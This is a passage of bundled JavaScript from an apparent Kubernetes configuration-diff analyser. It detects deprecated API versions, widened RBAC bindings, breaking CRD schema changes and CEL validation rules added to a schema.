    of("cert-manager", gone2(`acme.cert-manager.io/${version}`, "1.6", "acme.cert-manager.io/v1", "Challenge", "Order"))
  ]),
  of(
    "cert-manager",
    gone2("certmanager.k8s.io/v1alpha1", "0.11", "cert-manager.io/v1", ...CERTIFICATES, "Challenge", "Order")
  ),
  of("Istio", gone2("authentication.istio.io/v1alpha1", "1.6", "security.istio.io/v1", "MeshPolicy", "Policy")),
  of(
    "Istio",
    gone2(
      "rbac.istio.io/v1alpha1",
      "1.6",
      "security.istio.io/v1",
      "AuthorizationPolicy",
      "ClusterRbacConfig",
      "RbacConfig",
      "ServiceRole",
      "ServiceRoleBinding"
    )
  )
];

// src/domains/config/kubernetes/api-versions.ts
var withdrawalOf = (version, kind) => WITHDRAWN.find((row) => row.version === version && row.kinds.includes(kind));
function apiVersionFacts(pair, { kubernetes: target }) {
  const { before: before3, after } = pair;
  const [from3, to] = [versionOf(before3), versionOf(after)];
  if (to === void 0 || isTemplated(from3, to)) return [];
  const withdrawal = withdrawalOf(to, kindOf(after));
  if (from3 === to && !isRefused(pair, withdrawal, target)) return [];
  const stays2 = isSameApi(before3, after);
  if (withdrawal === void 0 && !stays2) return [];
  const isOlder = stays2 && maturity(to) < maturity(from3 ?? "");
  const where = placed(pair, `${from3 ?? "unset"}->${to}`, withdrawal);
  const object2 = titleOf(pair);
  return [
    { kind: "api-version-moved", ...where, object: object2, from: from3, to, isOlder, ...ending(withdrawal, target), ...asking(after) }
  ];
}
var ASKS = /\.Capabilities\b|\bsemverCompare\b|\bkubeVersion\b/i;
var ASKS_FOR_POLICIES = /podSecurityPolic|\bpsp\b/i;
function asking(document) {
  const line = at(document?.root, "apiVersion")?.line ?? 0;
  const isPolicy2 = kindOf(document) === "PodSecurityPolicy";
  const asks3 = (document?.guards ?? []).some(
    ({ condition: condition2, from: from3, to }) => from3 <= line && line <= to && (ASKS.test(condition2) || isPolicy2 && ASKS_FOR_POLICIES.test(condition2))
  );
  return asks3 ? { isAskedFor: true } : {};
}
function isRefused({ before: before3, after }, withdrawal, target) {
  if (before3 === void 0 || after === void 0 || signature(before3.root) === signature(after.root)) return false;
  return ending(withdrawal, target).isServed === false;
}
function ending(withdrawal, target) {
  if (withdrawal === void 0) return {};
  const { removedIn, replacement, product } = withdrawal;
  const isKnown = target !== void 0 && product === "Kubernetes";
  const isServed4 = isKnown ? { isServed: releaseOf(target) < releaseOf(removedIn) } : {};
  return { removedIn: `${product} ${removedIn}`, replacement, ...isServed4 };
}
function releaseOf(release3) {
  const [major = "0", minor = "0"] = release3.replace(/^v/, "").split(".");
  return Number(major) * 1e3 + Number(minor);
}
function placed(pair, change, withdrawal) {
  const sides = { before: at(pair.before?.root, "apiVersion"), after: at(pair.after?.root, "apiVersion") };
  return {
    ...objectFact(pair, ["apiVersion"], change, sides),
    group: `apiVersion ${withdrawal?.removedIn ?? "served"}#${change}`
  };
}
var isSameApi = (before3, after) => before3 !== void 0 && after !== void 0 && groupOf(before3) === groupOf(after) && kindOf(before3) === kindOf(after);
var isTemplated = (...versions) => versions.some((version) => version?.includes("{{"));
var versionOf = (document) => textAt(document?.root, "apiVersion");
function maturity(version) {
  const [, major, stage = "", minor = "0"] = /v(\d{1,3})(?:(alpha|beta)(\d{1,3}))?$/.exec(version) ?? [];
  const stages = ["alpha", "beta", ""];
  return Number(major ?? 0) * 1e6 + stages.indexOf(stage) * 1e3 + Number(minor);
}

// src/domains/config/kubernetes/bindings.ts
var REACH = [
  [/^(?:Group system:unauthenticated|User system:anonymous)$/, "anonymous"],
  [/^Group system:masters$/, "masters"],
  [/^(?:Group system:(?:authenticated|serviceaccounts(?:$|:.*))|ServiceAccount (?:.*\/)?default)$/, "broad"]
];
var ORDER = ["anonymous", "masters", "broad", "single"];
var isBinding = ({ before: before3, after }) => kindOf(after ?? before3).endsWith("RoleBinding");
function bindingFacts(pair) {
  const { before: before3, after } = pair;
  if (after === void 0) return [];
  return [...roleChanged(pair, after), ...holdersChanged(pair, before3, after)];
}
function roleChanged(pair, after) {
  const [from3, to] = [roleOf(pair.before), roleOf(after)];
  const reachesCluster = kindOf(pair.before) === "RoleBinding" && kindOf(after) === "ClusterRoleBinding";
  if (pair.before === void 0 || nameOf2(pair.before) !== nameOf2(after)) return [];
  if (from3 === to && !reachesCluster) return [];
  const sides = { before: at(pair.before.root, "roleRef"), after: at(after.root, "roleRef") ?? after.root };
  const fact4 = objectFact(pair, ["roleRef"], `${from3}->${to}${reachesCluster ? " everywhere" : ""}`, sides);
  const isSameObject = kindOf(pair.before) === kindOf(after);
  return [{ kind: "binding-role-changed", ...fact4, binding: titleOf(pair), from: from3, to, reachesCluster, isSameObject }];
}
function holdersChanged(pair, before3, after) {
  const [had, has2] = [holders(before3), holders(after)];
  const [gone3, fresh] = [without2(had, has2), without2(has2, had)];
  if (fresh.length > 0 && !isRefilled(gone3, fresh)) return [holderAdded(pair, after, gone3, fresh)];
  const lost = had.length - has2.length;
  if (lost <= 0) return [];
  const sides = { before: at(before3?.root, "subjects"), after: at(after.root, "subjects") ?? after.root };
  const fact4 = objectFact(pair, ["subjects"], `${lost} less`, sides);
  return [{ kind: "binding-narrowed", ...fact4, binding: titleOf(pair), lost }];
}
function holderAdded(pair, after, gone3, fresh) {
  const { before: before3 } = pair;
  const widest = fresh.reduce((one, other) => ORDER.indexOf(other.reach) < ORDER.indexOf(one.reach) ? other : one);
  const { name: holder, reach: reach4, node } = widest;
  const fact4 = objectFact(pair, ["subjects"], holder, { before: at(before3?.root, "subjects"), after: node });
  const isNew = before3 === void 0 || nameOf2(before3) !== nameOf2(after);
  const [first] = !isNew && fresh.length <= gone3.length ? gone3 : [];
  const instead = first === void 0 ? {} : { instead: first.name };
  return {
    kind: "binding-widened",
    ...fact4,
    binding: titleOf(pair),
    holder,
    reach: reach4,
    role: roleOf(after),
    ...instead,
    isNew
  };
}
var without2 = (some, others) => some.filter((holder) => !others.some((other) => isSame2(holder, other)));
function isRefilled(gone3, fresh) {
  const all = [...gone3, ...fresh];
  return gone3.length === 1 && fresh.length === 1 && all.every(isOfTemplate);
}
var isOfTemplate = ({ node }) => textAt(node, "kind") === "ServiceAccount" && isDynamic(at(node, "name"));
var roleOf = (document) => `${textAt(document?.root, "roleRef", "kind") ?? ""}/${textAt(document?.root, "roleRef", "name") ?? ""}`;
function holders(document) {
  return itemsAt(document?.root, "subjects").map((node) => {
    const namespace2 = isDynamic(at(node, "namespace")) ? void 0 : textAt(node, "namespace");
    const [kind, called6] = [textAt(node, "kind") ?? "", textAt(node, "name") ?? ""];
    const name = `${kind} ${namespace2 === void 0 ? "" : `${namespace2}/`}${called6}`;
    const reach4 = REACH.find(([pattern]) => pattern.test(name))?.[1] ?? "single";
    return { name, called: `${kind} ${called6}`, namespace: namespace2, reach: reach4, node };
  });
}
var isSame2 = (one, other) => one.called === other.called && (one.namespace === other.namespace || one.namespace === void 0 || other.namespace === void 0);

// src/domains/config/kubernetes/crd-versions.ts
var versionsOf = (root) => itemsAt(root, "spec", "versions");
var isServed = (version) => switchOf(at(version, "served")) !== false;
var isEarlyVersion = (version) => /alpha/.test(textAt(version, "name") ?? "");
var isEarlyGroup = (name) => name.endsWith(".x-k8s.io");

// src/domains/config/kubernetes/crd-envelope.ts
var envelopeBreaks = (before3, after) => CHECKS.flatMap((check) => check(before3.root, after.root));
var storedIn = (root) => versionsOf(root).find((version) => switchOf(at(version, "storage")) === true);
var storageMoved = (before3, after) => {
  const [old, now] = [storedIn(before3), storedIn(after)];
  const [from3, to] = [textAt(old, "name"), textAt(now, "name")];
  if (from3 === void 0 || to === void 0 || from3 === to) return [];
  if (!versionsOf(after).some((version) => textAt(version, "name") === from3 && isServed(version))) return [];
  return [{ what: "storage-moved", field: "storage", from: from3, to, before: old, after: now }];
};
var isConverted = (root) => textAt(root, "spec", "conversion", "strategy") === "Webhook";
var conversionRemoved = (before3, after) => {
  if (!isConverted(before3) || isConverted(after) || versionsOf(after).length < 2) return [];
  return [{ what: "conversion-removed", field: "conversion", before: at(before3, "spec", "conversion") }];
};
var subresourcesRemoved = (before3, after) => versionsOf(before3).flatMap((version) => {
  const kept2 = versionsOf(after).find((other) => textAt(other, "name") === textAt(version, "name"));
  return ["status", "scale"].flatMap((name) => {
    const old = at(version, "subresources", name);
    if (kept2 === void 0 || old === void 0 || at(kept2, "subresources", name) !== void 0) return [];
    const weight = isEarlyVersion(version) ? { weight: "early" } : {};
    return [{ what: "subresource-removed", field: name, before: old, after: kept2, ...weight }];
  });
});
var shortNamesRemoved = (before3, after) => {
  const names2 = at(before3, "spec", "names", "shortNames");
  const still = new Set(textsOf(at(after, "spec", "names", "shortNames")));
  return textsOf(names2).filter((name) => !still.has(name)).map((name) => ({ what: "short-name-removed", field: name, before: names2, after: at(after, "spec", "names") }));
};
function identityChanged(before3, after) {
  for (const [field, ...path27] of IDENTITY) {
    const [old, now] = [at(before3, ...path27), at(after, ...path27)];
    const [from3, to] = [textsOf(old)[0], textsOf(now)[0]];
    if (from3 === void 0 || to === void 0 || from3 === to || `${from3}${to}`.includes("{{")) continue;
    const isEarly = versionsOf(before3).filter(isServed).every(isEarlyVersion) || isEarlyGroup(from3);
    return {
      what: "identity-changed",
      field,
      from: from3,
      to,
      before: old,
      after: now,
      ...isEarly ? { weight: "early" } : {}
    };
  }
  return void 0;
}
var IDENTITY = [
  ["name", "metadata", "name"],
  ["group", "spec", "group"],
  ["names.plural", "spec", "names", "plural"],
  ["names.kind", "spec", "names", "kind"]
];
var selectableRemoved = (before3, after) => versionsOf(before3).flatMap((version) => {
  const kept2 = versionsOf(after).find((other) => textAt(other, "name") === textAt(version, "name"));
  const still = new Set(itemsAt(kept2, "selectableFields").map((field) => textAt(field, "jsonPath")));
  return itemsAt(version, "selectableFields").flatMap((field) => {
    const path27 = textAt(field, "jsonPath") ?? "";
    return kept2 === void 0 || still.has(path27) ? [] : [{ what: "selectable-removed", field: path27, before: field, after: kept2 }];
  });
});
var CHECKS = [
  selectableRemoved,
  storageMoved,
  conversionRemoved,
  subresourcesRemoved,
  shortNamesRemoved
];

// src/domains/config/kubernetes/crd-bounds.ts
var BOUNDS = [
  { keyword: "minimum", sign: 1, generous: 1 },
  { keyword: "minLength", sign: 1, generous: 1 },
  { keyword: "minItems", sign: 1, generous: 1 },
  { keyword: "minProperties", sign: 1, generous: 1 },
  { keyword: "maximum", sign: -1, generous: 65535 },
  { keyword: "maxLength", sign: -1, generous: 63 },
  { keyword: "maxItems", sign: -1, generous: 16 },
  { keyword: "maxProperties", sign: -1, generous: 16 }
];
var boundsTightened = (both2) => [
  ...BOUNDS.flatMap((bound) => tightened(both2, bound)),
  ...RESTRICTIONS.flatMap((keyword) => restricted(both2, keyword))
];
function tightened({ field, before: before3, after }, { keyword, sign, generous }) {
  const [from3, to] = [textAt(before3, keyword), textAt(after, keyword)];
  if (to === void 0 || !(from3 === void 0 || sign * (Number(to) - Number(from3)) > 0)) return [];
  if (restatesType(Number(to), sign) || holdsForAll(before3, keyword, sign, Number(to))) return [];
  const sides = { field: `${field} (${keyword})`, from: from3, to, before: before3, after: at(after, keyword) };
  if (from3 !== void 0) return [{ what: "bound-tightened", ...sides }];
  const isMild = sign * (Number(to) - generous) <= 0;
  return [{ what: "bound-added", ...sides, ...isMild ? { weight: "mild" } : {} }];
}
var LARGEST = 2 ** 31 - 1;
var restatesType = (bound, sign) => -sign * bound >= LARGEST;
function holdsForAll(before3, keyword, sign, bound) {
  const values3 = keyword.endsWith("Length") ? textsOf(at(before3, "enum")) : [];
  return values3.length > 0 && values3.every((value) => sign * (value.length - bound) >= 0);
}
var RESTRICTIONS = ["uniqueItems", "multipleOf", "exclusiveMinimum", "exclusiveMaximum"];
function restricted({ field, before: before3, after }, keyword) {
  const [from3, to] = [textAt(before3, keyword), textAt(after, keyword)];
  if (to === void 0 || to === from3 || switchOf(at(after, keyword)) === false) return [];
  const isBound = from3 !== void 0 && switchOf(at(before3, keyword)) === void 0;
  const sides = { before: at(before3, keyword) ?? before3, after: at(after, keyword) };
  return [{ what: isBound ? "bound-tightened" : "bound-added", field, to: `${keyword}: ${to}`, ...sides }];
}

// src/domains/config/algebra/duration.ts
var UNITS = /* @__PURE__ */ new Map([
  ["ns", 1e-9],
  ["us", 1e-6],
  ["\xB5s", 1e-6],
  ["ms", 1e-3],
  ["s", 1],
  ["m", 60],
  ["h", 3600]
]);
var PART = /(\d{1,20}(?:\.\d{0,20})?|\.\d{1,20})(ns|us|µs|ms|s|m|h)/g;
var WHOLE3 = new RegExp(`^(?:${PART.source}){1,20}$`);
function seconds(text) {
  if (!WHOLE3.test(text)) return void 0;
  return Array.from(text.matchAll(PART), ([, count3, unit = ""]) => Number(count3) * (UNITS.get(unit) ?? 0)).reduce(
    (total, part) => total + part
  );
}

// src/domains/config/algebra/quantity.ts
var SCALE = /* @__PURE__ */ new Map([
  ["n", 1e-9],
  ["u", 1e-6],
  ["m", 1e-3],
  ["", 1],
  ["k", 1e3],
  ["M", 1e6],
  ["G", 1e9],
  ["T", 1e12],
  ["P", 1e15],
  ["E", 1e18],
  ["Ki", 2 ** 10],
  ["Mi", 2 ** 20],
  ["Gi", 2 ** 30],
  ["Ti", 2 ** 40],
  ["Pi", 2 ** 50],
  ["Ei", 2 ** 60]
]);
var QUANTITY = /^([+-]?(?:\d{1,40}(?:\.\d{0,40})?|\.\d{1,40}))(?:([EPTGMK]i|[numkMGTPE])|[eE]([+-]?\d{1,3}))?$/;
function quantity(text) {
  const [, digits, suffix = "", exponent] = QUANTITY.exec(text.trim()) ?? [];
  const scale = SCALE.get(suffix);
  if (digits === void 0 || scale === void 0) return void 0;
  return Number(digits) * scale * 10 ** Number(exponent ?? 0);
}
var isSameAmount = (one, other) => one === other || [one, other].some((text) => /[a-z]$/i.test(text)) && [seconds, quantity].some((read3) => areClose(read3(one), read3(other)));
var areClose = (one = NaN, other = NaN) => Math.abs(one - other) <= 4 * Number.EPSILON * Math.max(Math.abs(one), Math.abs(other));
function dockerBytes(text) {
  const [, digits, unit = ""] = /^(\d{1,20}(?:\.\d{1,20})?) ?(?:([kmgt])b?|b)?$/i.exec(text.trim()) ?? [];
  return digits === void 0 ? void 0 : Number(digits) * 1024 ** " kmgt".indexOf(unit.toLowerCase() || " ");
}
function countOf(text, total, round) {
  const [, digits, percent] = /^(\d{1,9})(%?)$/.exec(text.trim()) ?? [];
  if (digits === void 0) return void 0;
  if (percent === "") return Number(digits);
  const exact = Number(digits) * total / 100;
  return round === "up" ? Math.ceil(exact) : Math.floor(exact);
}

// src/domains/config/kubernetes/crd-patterns.ts
var CLASS = /\[(?:[^\]\\]|\\.)+\]/g;
var WORD = /a-z|A-Z|\\w|!-~/;
var DIGIT = /0-9|\\d|\\w|!-~/;
var FRAME = /^(?:[\^$()|?*+.,:/_@-]|\{\d*,?\d*\}|\\[.d/w-]|\?:)*$/;
var DURATION = /\bms\|s\|m\|h\b/;
var ADDRESS = /^\^\(?https?(?:\?|\|https?\)):\\?\/\\?\/(?:\.[+*]\$?)?$/;
function isOfWords(pattern) {
  if (DURATION.test(pattern) || ADDRESS.test(pattern)) return true;
  const classes = pattern.match(CLASS) ?? [];
  return classes.some(isWord) && FRAME.test(pattern.replaceAll(CLASS, ""));
}
var isWord = (characters) => WORD.test(characters) && DIGIT.test(characters) && !characters.startsWith("[^");

// src/domains/config/kubernetes/crd-checks.ts
var keepsUnknown = (schema) => switchOf(at(schema, "x-kubernetes-preserve-unknown-fields")) === true;
var MILD = { weight: "mild" };
var changed = (keyword, what) => ({ field, before: before3, after }) => {
  const [from3, to] = [textAt(before3, keyword), textAt(after, keyword)];
  if (from3 === void 0 || to === void 0 || to === from3) return [];
  return [{ what, field, from: from3, to, before: at(before3, keyword), after: at(after, keyword) }];
};
var formatChanged = (both2) => changed(
  "format",
  "format-changed"
)(both2).map(
  (found) => [found.from, found.to].every((format) => NUMBERS.test(format ?? "")) ? { ...found, ...MILD } : found
);
var NUMBERS = /^(?:u?int(?:8|16|32|64)?|float|double)$/;
var enumNarrowed = ({ field, before: before3, after }) => {
  const [old, list] = [at(before3, "enum"), at(after, "enum")];
  if (list === void 0) return [];
  const to = listed3(textsOf(list));
  if (old === void 0) return [{ what: "enum-added", field, to, before: before3, after: list }];
  const still = new Set(textsOf(list));
  const lost = textsOf(old).filter((value) => !still.has(value));
  return lost.length === 0 ? [] : [{ what: "enum-narrowed", field, from: listed3(lost), to, before: old, after: list }];
};
var listed3 = (values3) => values3.map((value) => value || '""').join(", ");
var enumWidened = ({ field, before: before3, after }) => {
  const [old, now] = [at(before3, "enum"), at(after, "enum")];
  if (old === void 0 || now === void 0) return [];
  const known2 = new Set(textsOf(old));
  const fresh = textsOf(now).filter((value) => !known2.has(value));
  return fresh.length === 0 ? [] : [{ what: "enum-widened", field, to: listed3(fresh), before: old, after: now }];
};
var patternAdded = ({ field, before: before3, after }) => {
  const [values3, to] = [textsOf(at(before3, "enum")), textAt(after, "pattern")];
  if (to === void 0 || at(before3, "pattern") !== void 0) return [];
  if (values3.length > 0 && values3.every((value) => value !== "" && to.includes(value))) return [];
  const weight = isOfWords(to) ? MILD : {};
  return [{ what: "pattern-added", field, to, before: before3, after: at(after, "pattern"), ...weight }];
};
var nullRefused = ({ field, before: before3, after }) => isOn(before3, "nullable") && !isOn(after, "nullable") ? [{ what: "null-refused", field, before: at(before3, "nullable"), after: at(after, "nullable") ?? after }] : [];
var isOn = (schema, keyword) => switchOf(at(schema, keyword)) === true;
var unknownRefused = ({ field, before: before3, after }) => {
  const keyword = "x-kubernetes-preserve-unknown-fields";
  if (!keepsUnknown(before3) || keepsUnknown(after)) return [];
  const [old, now] = [at(before3, "properties", "spec"), at(after, "properties", "spec")];
  if (field === "" && now !== void 0 && (at(old, "properties") !== void 0 || keepsUnknown(now))) return [];
  return [{ what: "unknown-refused", field, before: at(before3, keyword), after: at(after, keyword) ?? after }];
};
var isOpen = (schema) => {
  const extra = at(schema, "additionalProperties");
  return extra?.kind === "map" || switchOf(extra) === true;
};
var extrasRefused = ({ field, before: before3, after }) => isOpen(before3) && !isOpen(after) && !keepsUnknown(after) ? [{ what: "unknown-refused", field, before: at(before3, "additionalProperties"), after }] : [];
var defaultChanged = ({ field, before: before3, after }) => {
  const [old, now] = [at(before3, "default"), at(after, "default")];
  const [from3, to] = [textAt(old), textAt(now)];
  if (isSameDefault(from3, to) || to === void 0 && now !== void 0) return [];
  const weight = from3 === void 0 && EMPTY.has(to) || isOfOneImage(from3, to) ? MILD : {};
  return [{ what: "default-changed", field, from: from3, to, before: old ?? before3, after: now ?? after, ...weight }];
};
var isOfOneImage = (from3 = "", to = "") => {
  const [, image] = /^([\w.-]+\/[\w./-]+)[:@]/.exec(from3) ?? [];
  return image !== void 0 && (to.startsWith(`${image}:`) || to.startsWith(`${image}@`));
};
var isSameDefault = (from3 = "", to = "") => isSameAmount(from3, to);
var EMPTY = /* @__PURE__ */ new Set(["0", "false"]);
var mapKeysChanged = ({ field, before: before3, after }) => {
  const [from3, to] = [before3, after].map((schema) => textsOf(at(schema, "x-kubernetes-list-map-keys")).join(", "));
  const sides = { before: at(before3, "x-kubernetes-list-map-keys"), after: at(after, "x-kubernetes-list-map-keys") };
  return from3 === "" || to === "" || from3 === to ? [] : [{ what: "merge-changed", field, from: from3, to, ...sides }];
};
var valueChecks = [
  formatChanged,
  enumNarrowed,
  changed("pattern", "pattern-changed"),
  patternAdded,
  nullRefused,
  unknownRefused,
  defaultChanged,
  changed("x-kubernetes-list-type", "merge-changed"),
  changed("x-kubernetes-map-type", "merge-changed"),
  mapKeysChanged,
  enumWidened,
  extrasRefused
];

// src/domains/config/kubernetes/crd-embedded.ts
var TYPES = [
  ["containers", "initContainers", "volumes"],
  ["image", "terminationMessagePolicy"],
  ["nodeAffinity", "podAffinity", "podAntiAffinity"],
  ["configMap", "emptyDir", "hostPath", "projected"],
  ["configMap", "downwardAPI", "serviceAccountToken"],
  ["configMapRef", "prefix", "secretRef"],
  ["value", "valueFrom"],
  ["configMapKeyRef", "secretKeyRef"],
  ["failureThreshold", "httpGet", "tcpSocket"],
  ["postStart", "preStop"],
  ["seLinuxOptions", "runAsNonRoot"],
  ["claims", "limits", "requests"],
  ["accessModes", "storageClassName", "volumeMode"],
  ["maxSkew", "topologyKey", "whenUnsatisfiable"],
  ["effect", "operator", "tolerationSeconds"],
  ["matchExpressions", "matchLabels"],
  ["containerResource", "external", "pods"],
  ["clientIP", "sessionAffinity"],
  ["mountPath", "mountPropagation"],
  ["accessModes", "capacity", "phase"],
  ["hostnames", "ip"]
];
function isEmbedded(schema) {
  const properties = at(schema, "properties");
  return properties !== void 0 && TYPES.some((names2) => names2.every((name) => at(properties, name) !== void 0));
}

// src/domains/config/kubernetes/cel.ts
var TRUE = [1, 1];
var FALSE = [0, 0];
var UNKNOWN = [0, 1];
var ANYTHING = [-Infinity, Infinity];
var LONGEST3 = 1e3;
var HAS = /^has\(\s*((?:self|oldSelf)\.[\w.]+)\s*\)/;
var COUNT = /^\[([^[\]]*)\]\.filter\(\s*(\w+)\s*,\s*\2(?:\s*==\s*true)?\s*\)\.size\(\)/;
var LITERAL2 = /^(?:true|false)\b/;
var NUMBER = /^\d+(?![\w.])/;
var TEXT = String.raw`"(?:[^"\\]|\\.)*"|'(?:[^'\\]|\\.)*'`;
var OPAQUE_OR_OPEN = new RegExp(String.raw`^(?:(?:[^()[\]{}"'&|?:,!]|!=|${TEXT})+|[([{])`);
var INSIDE = new RegExp(String.raw`^(?:(?:[^()[\]{}"']|${TEXT})+|[()[\]{}])`);
function verdictOf(rule, presence) {
  if (rule.length > LONGEST3) return void 0;
  const reader = new Reader(rule, presence);
  const [least, most] = reader.choice();
  if (!reader.isAtEnd || reader.isLost) return void 0;
  if (least >= 1) return true;
  return most <= 0 ? false : void 0;
}
var fieldsAsked = (rule) => [
  ...new Set(Array.from(rule.slice(0, LONGEST3).matchAll(ANY_HAS), ([, field = ""]) => field))
];
var ANY_HAS = new RegExp(HAS.source.slice(1), "g");
var atMost = (left, right) => {
  if (left[1] <= right[0]) return TRUE;
  return left[0] > right[1] ? FALSE : UNKNOWN;
};
var plus = (left, right) => [left[0] + right[0], left[1] + right[1]];
var spanOf = (truth) => {
  if (truth === void 0) return UNKNOWN;
  return truth ? TRUE : FALSE;
};
var not = ([least, most]) => [1 - most, 1 - least];
var equal = (left, right) => {
  if (left[0] === right[1] && left[1] === right[0]) return TRUE;
  return left[0] > right[1] || left[1] < right[0] ? FALSE : UNKNOWN;
};
var COMPARISONS = [
  ["<=", atMost],
  [">=", (left, right) => atMost(right, left)],
  ["==", equal],
  ["!=", (left, right) => not(equal(left, right))],
  ["<", (left, right) => not(atMost(right, left))],
  [">", (left, right) => not(atMost(left, right))]
];
var Reader = class {
  /** Whether something stood there that this reader does not know. */
  isLost = false;
  #rest;
  #presence;
  constructor(rule, presence) {
    this.#rest = rule.trim();
    this.#presence = presence;
  }
  get isAtEnd() {
    return this.#rest === "";
  }
  /** `a ? b : c`, the weakest of all. */
  choice() {
    const asked4 = this.#either();
    if (!this.#take("?")) return asked4;
    const first = this.choice();
    const second = this.#take(":") ? this.choice() : this.#lost();
    if (asked4[0] >= 1) return first;
    return asked4[1] <= 0 ? second : [Math.min(first[0], second[0]), Math.max(first[1], second[1])];
  }
  #either() {
    let left = this.#both();
    while (this.#take("||")) {
      const right = this.#both();
      left = [Math.max(left[0], right[0]), Math.max(left[1], right[1])];
    }
    return left;
  }
  #both() {
    let left = this.#compared();
    while (this.#take("&&")) {
      const right = this.#compared();
      left = [Math.min(left[0], right[0]), Math.min(left[1], right[1])];
    }
    return left;
  }
  #compared() {
    const left = this.#sum();
    const [, compared] = COMPARISONS.find(([sign]) => this.#take(sign)) ?? [];
    return compared === void 0 ? left : compared(left, this.#sum());
  }
  #sum() {
    let left = this.#part();
    while (this.#take("+")) {
      left = plus(left, this.#part());
    }
    return left;
  }
  #part() {
    if (this.#take("!")) return not(this.#part());
    if (this.#take("(")) {
      const inner = this.choice();
      return this.#take(")") ? inner : this.#lost();
    }
    const listed6 = this.#match(COUNT)?.[1];
    return listed6 === void 0 ? this.#word() : this.#counted(listed6);
  }
  #word() {
    const field = this.#match(HAS)?.[1];
    if (field !== void 0) return spanOf(this.#presence(field));
    const literal2 = this.#match(LITERAL2)?.[0];
    if (literal2 !== void 0) return spanOf(literal2 === "true");
    const number = this.#match(NUMBER)?.[0];
    return number === void 0 ? this.#opaque() : [Number(number), Number(number)];
  }
  /** How many of a list are true. */
  #counted(list) {
    const spans = list.split(",").map((item) => {
      const [asked4, field = ""] = HAS.exec(item.trim()) ?? [];
      return asked4 === item.trim() ? spanOf(this.#presence(field)) : UNKNOWN;
    });
    return spans.reduce(plus, [0, 0]);
  }
  /** Nothing is known of it but where it ends: brackets and what is in them belong to it. */
  #opaque() {
    let [read3, depth] = [0, 0];
    for (; ; ) {
      const token = this.#match(depth === 0 ? OPAQUE_OR_OPEN : INSIDE)?.[0];
      if (token === void 0) return read3 === 0 || depth > 0 ? this.#lost() : ANYTHING;
      read3 += 1;
      if (/^[([{]$/.test(token)) depth += 1;
      else if (depth > 0 && /^[)\]}]$/.test(token)) depth -= 1;
    }
  }
  #lost() {
    this.isLost = true;
    return ANYTHING;
  }
  #take(token) {
    if (!this.#rest.startsWith(token)) return false;
    this.#rest = this.#rest.slice(token.length).trimStart();
    return true;
  }
  #match(pattern) {
    const found = pattern.exec(this.#rest);
    if (found === null) return void 0;
    this.#rest = this.#rest.slice(found[0].length).trimStart();
    return found;
  }
};

// src/domains/config/kubernetes/crd-refusals.ts
var MOST_OPEN = 5;
var MOST_RULES = 5;
function refusalsOf(rule, schema) {
  const known2 = (field) => presenceOf(field, schema);
  if (verdictOf(rule, known2) === true) return "none";
  const asked4 = fieldsAsked(rule);
  const open = asked4.filter((field) => known2(field) === void 0);
  if (open.length === 0 || open.length > MOST_OPEN) return "some";
  const accepted = accepting(open, schema);
  const refused = casesOf(open).filter((set2) => {
    const presence = (field) => known2(field) ?? (open.includes(field) ? set2.has(field) : void 0);
    return verdictOf(rule, presence) !== true && accepted(set2, presence);
  });
  if (refused.length === 0) return "none";
  const isSlight2 = (set2) => asked4.length > 1 && isEmpty(set2, open, schema) || takesAway(set2, open) || isForbidden(set2, schema);
  return refused.every(isSlight2) ? "slight" : "some";
}
var nameIn = (field) => field.replace(/^\w+\./, "");
function presenceOf(field, { before: before3, after }) {
  const name = nameIn(field);
  const [first = name] = name.split(".");
  const [old, now] = [at(before3, "properties", first), at(after, "properties", first)];
  if (name === first && at(now, "default") !== void 0) return true;
  if (old === void 0) return now === void 0 || at(now, "default") !== void 0 ? void 0 : false;
  return textsOf(at(before3, "required")).includes(name) ? true : void 0;
}
function casesOf(fields) {
  const cases = Array.from({ length: 2 ** fields.length }, (_, bits) => bits);
  return cases.map((bits) => new Set(fields.filter((_, index) => Math.floor(bits / 2 ** index) % 2 === 1)));
}
function accepting(open, { before: before3, rules: rules4 }) {
  const most = Number(textAt(before3, "maxProperties") ?? Infinity);
  const heeded = rules4.filter((rule) => open.some((field) => rule.includes(field))).slice(0, MOST_RULES);
  return (set2, presence) => {
    const count3 = [...set2].filter((field) => /^self\.\w+$/.test(field)).length;
    return !(count3 > most) && heeded.every((rule) => verdictOf(rule, presence) !== false);
  };
}
var isEmpty = (set2, open, { before: before3 }) => set2.size === 0 && entriesOf(at(before3, "properties")).every(([name]) => open.includes(`self.${name}`));
var takesAway = (set2, open) => open.some((field) => {
  const now = `self.${nameIn(field)}`;
  return field.startsWith("oldSelf.") && set2.has(field) && open.includes(now) && !set2.has(now);
});
var EXCLUSIVE = /mutually exclusive|(?:at most|only|exactly) one of/i;
function isForbidden(set2, { before: before3 }) {
  const names2 = [...set2].filter((field) => field.startsWith("self.")).map(nameIn);
  return names2.some((name) => {
    const said8 = textAt(before3, "properties", name, "description") ?? "";
    return EXCLUSIVE.test(said8) && names2.some((other) => other !== name && isNamedIn(said8, other));
  });
}
var isNamedIn = (text, name) => text.toLowerCase().split(/\W+/).includes(name.toLowerCase());

// src/domains/config/kubernetes/crd-validations.ts
var validationsAdded = ({ field, before: before3, after }) => {
  const ofOne = (name) => at(before3, "properties", name) === void 0 || at(after, "properties", name) === void 0;
  const rules4 = rulesOf(before3).map(({ text }) => text);
  const known2 = rules4.map((text) => new Set(demandsOf(plain(text, ofOne))));
  const isKnown = (text) => {
    const asked4 = demandsOf(plain(text, ofOne));
    return known2.some((demands) => asked4.every((demand2) => demands.has(demand2)));
  };
  return rulesOf(after).flatMap(({ text, node }) => {
    const refusals = isKnown(text) ? "none" : refusalsOf(text, { before: before3, after, rules: rules4 });
    if (refusals === "none") return [];
    const weight = refusals === "slight" ? { weight: "mild" } : {};
    return [{ what: "validation-added", field, to: text, before: before3, after: node, ...weight }];
  });
};
function demandsOf(rule) {
  const demands = [""];
  let depth = 0;
  for (const token of rule.match(TOKENS) ?? []) {
    depth += DEEPER[token] ?? 0;
    const joins2 = depth === 0 ? token : "";
    if (joins2 === "||" || joins2 === "?") return [rule];
    if (joins2 === "&&") demands.push("");
    else demands.push(`${demands.pop() ?? ""}${token}`);
  }
  return demands;
}
var TOKENS = /&&|\|\||"[^"]*"|'[^']*'|[^]/g;
var DEEPER = { "(": 1, "[": 1, "{": 1, ")": -1, "]": -1, "}": -1 };
var rulesOf = (schema) => itemsAt(schema, "x-kubernetes-validations").map((node) => ({ node, text: textAt(node, "rule") ?? "" }));
var LISTED = /\[[^[\]]*\]/g;
var HAS2 = /^has\(self\.(\w+)\)$/;
var plain = (rule, isOfOne) => rule.replace(/\s+/g, "").replace(LISTED, (list) => {
  const items = list.slice(1, -1).split(",");
